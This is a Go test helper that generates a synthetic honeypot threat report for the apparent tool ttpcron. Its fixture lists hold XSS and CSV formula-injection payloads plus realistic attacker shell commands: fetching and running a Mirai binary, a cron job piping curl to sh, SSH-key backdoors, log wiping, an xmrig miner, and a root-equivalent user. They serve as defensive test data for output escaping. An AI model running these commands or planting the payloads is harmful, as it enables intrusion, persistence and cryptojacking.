package page

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"time"

	"github.com/ttpcron/ttpcron"
	"github.com/ttpcron/ttpcron/attack"
	"github.com/ttpcron/ttpcron/report"
)

// hostile are texts that do something where they are not taken as text.
var hostile = []string{
	`<script>alert(1)</script>`,
	`</script><script>alert(2)</script>`,
	`"><img src=x onerror=alert(3)>`,
	`' onmouseover='alert(4)`,
	"`${alert(5)}` javascript:alert(6)",
	"rm -rf / \u202etxt.exe\u202c",
	"\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 123 abc",
	"line\nline\r\n\ttab \x00 nul \x1b[31mred\x1b[0m",
	"\xff\xfe no UTF-8 \xc3\x28",
	"<!-- --> ]]> <![CDATA[ &lt; &amp; &#x3c;",
	"</title></style></textarea></svg></table></details></main>",
	"=cmd|' /C calc'!A0",
	"z\u0335\u0321a\u0334\u0322l\u0337g\u0336o\u0335 \u200b\u200d\ufeff",
	"naïve 日本語 😀 ɐ",
}

var sampleCommands = []string{
	"uname -a; nproc; cat /proc/cpuinfo | grep name | wc -l",
	"cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.77/bins/mirai.x86 -O .x; chmod 777 .x; ./.x tcp",
	"cat /etc/passwd",
	`echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDMyN" >> ~/.ssh/authorized_keys; chattr +i ~/.ssh/authorized_keys`,
	"(crontab -l; echo '*/5 * * * * curl -fsSL http://203.0.113.9/k.sh | sh') | crontab -",
	"history -c; rm -rf /var/log/wtmp; unset HISTFILE",
	"./xmrig -o stratum+tcp://pool.example.net:3333 -u 46E9UkTFqALXNh2mSbA7WGDoa2i6h4WVgUgPVdT9ZdtweLRvAhWmbvuY1dhEmfjHbsavKXo3eGf5ZRb4qJzFXLVHGYH4moQ --donate-level 1",
	"cat /proc/mounts; /bin/busybox ECCHI",
	"ps aux | grep -i miner",
	"useradd -o -u 0 -g 0 -M -d /root -s /bin/bash pilot && echo 'pilot:pilot' | chpasswd",
}

// sample makes a report as a store of some weeks gives it. What strange gives takes the
// place of some of the texts of attackers.
func sample(rows int, strange func(usual string) string) *report.Report {
	s := &sampler{rng: rand.New(rand.NewPCG(7, 9)), strange: strange}
	first := time.Date(2026, 10, 31, 4, 12, 9, 0, time.UTC)
	r := &report.Report{
		Made: time.Date(2026, 11, 29, 3, 14, 15, 0, time.UTC), Version: "0.9.0", Store: "honeypots.db", Masked: true,
		First: first, Last: first.AddDate(0, 0, 28), NewSince: time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC),
		Notes: []string{"Tags of hosts below the level medium are left out."},
	}
	s.r, s.first = r, first
	for _, n := range []string{"hp-ams-1", "hp-ams-2", "cowrie-fra", strange("canary-office")} {
		i := len(r.Sensors)
		r.Sensors = append(r.Sensors, &report.Sensor{Seen: s.seen(), Name: n, Events: 9000 - 2100*i, Tags: 4000 - 900*i, Attackers: 140 - 20*i, Sessions: 900 - 100*i})
		r.Sensors[i].Seen.Sensors, r.Sensors[i].Last = []int{i}, r.Last
	}
	r.Sensors[2].Last = r.Last.AddDate(0, 0, -3)
	s.techniques(18 + 160/rows)
	s.people(rows)
	s.things(rows)
	s.counts()
	return r
}

type sampler struct {
	rng     *rand.Rand
	strange func(string) string
	r       *report.Report
	first   time.Time
}

// seen is a time, and who was where.
func (s *sampler) seen() report.Seen {
	from := s.first.Add(time.Duration(s.rng.IntN(24*3600))*time.Second).AddDate(0, 0, s.rng.IntN(27))
	seen := report.Seen{First: from, Last: from.Add(time.Duration(s.rng.IntN(1800)) * time.Second), Level: ttpcron.Level(1 + s.rng.IntN(5))}
	if n := len(s.r.Sensors); n > 0 {
		seen.Sensors = []int{s.rng.IntN(n)}
	}
	for i := range s.r.Techniques {
		if s.rng.IntN(12) == 0 {
			seen.Techniques = append(seen.Techniques, i)
		}
	}
	seen.New = s.rng.IntN(9) == 0
	return seen
}

// techniques has one of so many of all techniques.
func (s *sampler) techniques(every int) {
	for _, tactic := range attack.Current().Tactics() {
		for x := range attack.Current().All() {
			for _, of := range x.Tactics {
				if of == tactic.ID && x.Live() && s.rng.IntN(every) == 0 {
					s.technique(tactic.ID, x.ID)
				}
			}
		}
	}
}

func (s *sampler) technique(tactic, id string) {
	i, r := len(s.r.Techniques), s.r
	t := &report.Technique{Seen: s.seen(), Tactic: tactic, ID: id, Tags: 1 + int(2e4/float64(1+s.rng.IntN(9000))), RuleCount: 1 + s.rng.IntN(4)}
	t.First, t.Last = s.first, r.Last
	t.Seen.Techniques = []int{i}
	t.Events, t.Attackers, t.Sessions = 1+t.Tags*2/3, 1+t.Tags/9, 1+t.Tags/8
	t.Reached = 1 + t.Attackers/2
	t.Levels[t.Level] = t.Tags
	for n := range min(t.RuleCount, 3) {
		t.Rules = append(t.Rules, report.Named{Name: fmt.Sprintf("R%04d", 10*i+n), Times: 1 + t.Tags/(n+2)})
	}
	for n := range 1 + s.rng.IntN(5) {
		e := &report.Evidence{Rule: "Reads the list of accounts", Text: s.strange(sampleCommands[s.rng.IntN(len(sampleCommands))]), Attacker: 1 + s.rng.IntN(20)}
		e.Tag = ttpcron.Tag{
			Claim:      ttpcron.Claim{RuleID: fmt.Sprintf("R%04d", 10*i+n), Tactic: tactic, TechniqueID: id, Level: t.Level},
			AttackerIP: fmt.Sprintf("203.0.113.%d", e.Attacker), SessionID: fmt.Sprintf("%012x", 77*(1+s.rng.IntN(30))), DeckyID: "hp-ams-1",
			EventTime: s.first.Add(time.Duration(s.rng.IntN(28*24*3600)) * time.Second),
		}
		t.Evidence = append(t.Evidence, e)
	}
	r.Techniques = append(r.Techniques, t)
}

func (s *sampler) people(rows int) {
	r := s.r
	r.Cube.Attackers = []string{""}
	for i := range rows {
		a := &report.Attacker{
			Seen: s.seen(), Address: fmt.Sprintf("203.0.113.%d", i+1), Place: s.strange([]string{"NL · Example Hosting B.V.", "CN · Chinanet", "US · DigitalOcean", ""}[i%4]),
			Events: 3000 / (i + 1), Tags: 1400 / (i + 1), Sessions: 1 + 90/(i+1), Commands: 400 / (i + 1), Requests: 60 / (i + 1), Logins: 700 / (i + 1), Won: 30 / (i + 1), Files: 9 / (i + 1), Tactics: 1 + i%9,
		}
		switch i {
		case 3:
			a.Address, a.UUID = "", "9aa491e5-f03b-5d8f-9eb5-161becedcdd6"
		case 4:
			a.Mark = ttpcron.MarkResolver
		case 5:
			a.Mark = ttpcron.MarkOwnNetwork
		case 6:
			a.Address = "2001:db8:85a3:8d3:1319:8a2e:370:7348"
		}
		a.Attacker = i + 1
		r.Cube.Attackers = append(r.Cube.Attackers, a.Address+a.UUID)
		r.Attackers.Rows = append(r.Attackers.Rows, a)
		if a.New {
			r.New.Attackers.Rows = append(r.New.Attackers.Rows, a)
		}
	}
	r.Attackers.Total, r.Attackers.By, r.Attackers.Command = 140*rows, "with the most tags", "ttpcron attackers"
	r.New.Attackers.Total, r.New.Attackers.Command = len(r.New.Attackers.Rows)*3, "ttpcron attackers --new-since 2026-11-22"
	for i := range rows {
		x := &report.Session{
			Seen: s.seen(), ID: fmt.Sprintf("%012x", 77*(i+1)), Sensor: "hp-ams-1", Attacker: fmt.Sprintf("203.0.113.%d", 1+i%20),
			Events: 80 - i%70, Commands: 30 - i%30, Tries: i % 7, Won: i % 2, Files: i % 3, Tags: 1 + 60/(i+1), Tactics: 1 + i%9, Like: i * 3 % 50,
		}
		x.Seen.Attacker = 1 + i%20
		if i < 12 {
			x.Story = s.story(x)
		}
		r.Sessions.Rows = append(r.Sessions.Rows, x)
	}
	r.Sessions.Total, r.Sessions.AtLeast, r.Sessions.By, r.Sessions.Command = 61*rows, true, "with the most tactics", "ttpcron sessions --sort tactics"
}

func (s *sampler) story(x *report.Session) *report.Story {
	t := &report.Story{Head: []report.Fact{{Name: "login", Text: "root, after 3 tries"}, {Name: "client", Text: s.strange("SSH-2.0-Go")}, {Name: "ended", Text: "closed after 16.6s"}}, More: s.rng.IntN(40)}
	at := x.First
	t.Lines = append(t.Lines, report.Line{Time: at, What: "login", Text: "root/******", Outcome: "failed"}, report.Line{Time: at.Add(2 * time.Second), What: "login", Text: "root/******", Outcome: "worked", Details: []report.Fact{{Name: "tries", Text: "3"}}})
	for range 4 + s.rng.IntN(9) {
		at = at.Add(time.Duration(1+s.rng.IntN(9)) * time.Second)
		l := report.Line{Time: at, What: "typed", Text: s.strange(sampleCommands[s.rng.IntN(len(sampleCommands))])}
		for range s.rng.IntN(4) {
			i := s.rng.IntN(len(s.r.Techniques))
			l.Tags = append(l.Tags, report.LineTag{Technique: s.r.Techniques[i].ID, Level: ttpcron.Level(1 + s.rng.IntN(5)), Confidence: 0.85, Rule: "R0014"})
		}
		if s.rng.IntN(4) == 0 {
			l.What, l.Outcome, l.Text = "fetched", "worked", s.strange("http://198.51.100.77/bins/mirai.x86")
			l.Details = []report.Fact{{Name: "sha256", Text: strings.Repeat("9aa491e5", 8)}}
		}
		t.Lines = append(t.Lines, l)
	}
	return t
}

func (s *sampler) things(rows int) {
	r := s.r
	for i, user := range []string{"root", "admin", "ubuntu", "pi", "", "oracle", "postgres", "test", s.strange("guest")}[:min(rows, 9)] {
		r.Credentials.Rows = append(r.Credentials.Rows, &report.Credential{Seen: s.seen(), User: user, Tries: 4021 / (i + 1), Won: 40 / (i + 1), Attackers: 90 / (i + 1), Passwords: 300 / (i + 1)})
	}
	r.Credentials.Total, r.Credentials.By, r.Credentials.Command = 318, "tried most", "ttpcron credentials --users"
	for i := range min(rows, 14) {
		f := &report.File{Seen: s.seen(), SHA256: strings.Repeat(fmt.Sprintf("%02x7f", i), 16), Path: s.strange(fmt.Sprintf("http://198.51.100.77/bins/mirai.%d", i)), Direction: "in", Size: uint64(i * i * 71234), Times: 50 - i, Attackers: 1 + i%5}
		if i%5 == 4 {
			f.SHA256, f.Size = "", 0
		}
		r.Files.Rows = append(r.Files.Rows, f)
	}
	r.Files.Total = len(r.Files.Rows)
	r.New.Files.Rows, r.New.Files.Total = r.Files.Rows[:min(2, len(r.Files.Rows))], min(2, len(r.Files.Rows))
	r.New.Techniques.Rows, r.New.Techniques.Total = r.Techniques[1:3], 2
	for i := range min(rows, 26) {
		x := &report.Rule{Seen: s.seen(), ID: fmt.Sprintf("R%04d", 14+i), Name: "Downloads a program and makes it executable", Of: ttpcron.Level(i % 6), Tags: 4000 / (i + 1), Events: 3000 / (i + 1), Attackers: 100 / (i + 1), Sessions: 200 / (i + 1)}
		r.Rules.Rows = append(r.Rules.Rows, x)
	}
	r.Rules.Total, r.Rules.By, r.Rules.Command = 61, "with the most tags", "ttpcron rules noise"
	for i := range min(rows, 3) {
		c := &report.Canary{Seen: s.seen(), Token: fmt.Sprintf("aws-key-%d", i), Attacker: fmt.Sprintf("203.0.113.%d", 3+i), Sensor: "canary-office", Text: s.strange("aws-cli/2.13.0 Python/3.11"), Mark: []ttpcron.Mark{"", ttpcron.MarkResolver, ""}[i%3]}
		c.Seen.Attacker = 3 + i
		r.Canaries.Rows = append(r.Canaries.Rows, c)
	}
	r.Canaries.Total = len(r.Canaries.Rows)
}

func (s *sampler) counts() {
	r := s.r
	r.Days = make([]report.Day, 29)
	for n := 0; n < len(r.Techniques); {
		t, c := r.Techniques[n], report.Cell{Day: s.rng.IntN(29), Sensor: s.rng.IntN(4), Attacker: s.rng.IntN(len(r.Cube.Attackers)), Technique: n, Level: 1 + s.rng.IntN(5)}
		c.Level, c.Tags = min(c.Level, int(t.Level)), min(1+s.rng.IntN(1+t.Tags/20), t.Tags)
		if t.Tags -= c.Tags; t.Tags == 0 {
			t.Tags, n = -1, n+1
		}
		r.Cube.Cells = append(r.Cube.Cells, c)
		r.Days[c.Day].Events += 1 + s.rng.IntN(4)
		r.Days[c.Day].Tags[c.Level] += c.Tags
		r.Cube.Hours = append(r.Cube.Hours, report.Hour{Hour: (s.rng.IntN(168) + s.rng.IntN(80)) % 168, Sensor: c.Sensor, Tactic: s.rng.IntN(15), Level: c.Level, Tags: c.Tags})
	}
	for _, t := range r.Techniques {
		t.Tags = 0
	}
	for _, c := range r.Cube.Cells {
		r.Techniques[c.Technique].Tags += c.Tags
	}
	r.Total = report.Total{Tagged: 9000, Attackers: r.Attackers.Total, TaggedAttackers: r.Attackers.Total, Sessions: r.Sessions.Total, Sensors: len(r.Sensors), Techniques: len(r.Techniques), Level: 5, LoginsTried: 9803, LoginsWon: 61, Files: r.Files.Total}
	for _, t := range r.Techniques {
		r.Total.Tags += t.Tags
	}
	for _, d := range r.Days {
		r.Total.Events += d.Events
	}
}

// usual leaves texts unchanged.
func usual(text string) string { return text }

// someHostile puts a hostile text in the place of every third.
func someHostile() func(string) string {
	n := 0
	return func(text string) string {
		if n++; n%3 == 0 {
			return hostile[n/3%len(hostile)]
		}
		return text
	}
}
